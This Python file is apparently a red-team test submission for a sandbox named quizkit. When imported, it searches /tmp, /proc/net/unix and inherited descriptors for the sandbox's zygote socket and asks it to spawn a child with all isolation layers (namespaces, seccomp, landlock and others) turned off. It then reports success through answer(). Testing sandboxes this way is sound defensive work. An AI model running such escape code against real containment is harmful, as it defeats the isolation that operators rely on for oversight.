# ruff: noqa  -- deliberately adversarial or placeholder-filled submissions, not project code
"""Red team: find the zygote's socket and ask it for a child with every isolation layer turned off.

Looks where the old design left it (a path in /proc/net/unix, /proc/<pid>/net/unix, /tmp/quizkit-zygote-*)
and among inherited descriptors. answer() is right only if some socket agreed to spawn.
"""
import glob
import json
import os
import socket

TOKEN = "__TOKEN__"
REQUEST = json.dumps({"op": "spawn", "token": TOKEN, "config": {
    "disable": ["pid", "net", "mount", "landlock", "uid", "seccomp", "reaper"], "workdir": "/tmp",
    "limits": {}, "forbidden": [], "hide": [], "secrets": []}}).encode()


def _socket_paths():
    found = set(glob.glob("/tmp/quizkit-zygote-*/zygote.sock"))
    for table in ["/proc/net/unix"] + glob.glob("/proc/[0-9]*/net/unix"):
        try:
            with open(table) as fh:
                rows = fh.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            parts = row.split()
            if len(parts) >= 8 and parts[7].startswith("/"):
                found.add(parts[7])
    return sorted(found)


def _ask(sock):
    sock.settimeout(1.0)
    sock.send(REQUEST)
    return b"spawned" in sock.recv(1 << 16)


def _escape():
    for path in _socket_paths():
        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.connect(path)
                    if _ask(s):
                        return True
            except OSError:
                pass
    for fd in range(3, 256):  # an inherited line to the zygote would be a SEQPACKET unix socket
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.type == socket.SOCK_SEQPACKET and _ask(s):
                return True
        except OSError:
            pass
        finally:
            s.detach()
    return False


ESCAPED = _escape()


def answer():
    return 42 if ESCAPED else 0


def second():
    return 0
